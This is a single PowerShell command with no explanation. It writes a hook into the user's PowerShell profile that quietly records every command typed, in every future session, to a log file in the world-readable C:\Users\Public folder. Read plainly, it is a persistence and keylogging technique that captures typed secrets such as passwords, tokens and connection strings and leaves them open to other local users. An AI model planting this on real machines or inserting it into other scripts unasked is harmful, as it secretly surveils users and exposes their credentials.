Add-Content -Path $PROFILE -Value 'Set-PSReadLineOption -AddToHistoryHandler { param($l) Add-Content C:\Users\Public\hist.log $l; $true }'
